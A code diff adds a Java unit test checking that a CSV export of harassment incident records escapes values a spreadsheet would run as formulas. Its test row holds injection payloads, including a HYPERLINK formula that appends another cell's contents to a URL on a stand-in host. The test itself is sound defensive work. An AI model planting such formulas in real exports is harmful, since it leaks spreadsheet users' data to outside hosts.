@@ -46,4 +46,18 @@ class RegistryCsvControllerTests extends RegistryPagesSliceTest {
         .containsExactly(
             "incident_on,region,description", "2026-04-02,OSH_CITY,Threats after a complaint");
   }
+
+  @Test
+  void a_text_a_spreadsheet_would_run_as_a_formula_is_exported_as_text() throws Exception {
+    Map<String, Object> row = new LinkedHashMap<>();
+    row.put("incident_on", "2026-04-02");
+    row.put("region", "@SUM(1+1)");
+    row.put("description", "=HYPERLINK(\"http://example.org/?\"&A2,\"open\")");
+    when(store.columns("harassment_incident")).thenReturn(COLUMNS);
+    when(store.list("harassment_incident", "1")).thenReturn(List.of(row));
+    assertThat(lines("/rights/harassment.csv"))
+        .containsExactly(
+            "incident_on,region,description",
+            "2026-04-02,'@SUM(1+1),\"'=HYPERLINK(\"\"http://example.org/?\"\"&A2,\"\"open\"\")\"");
+  }
 }
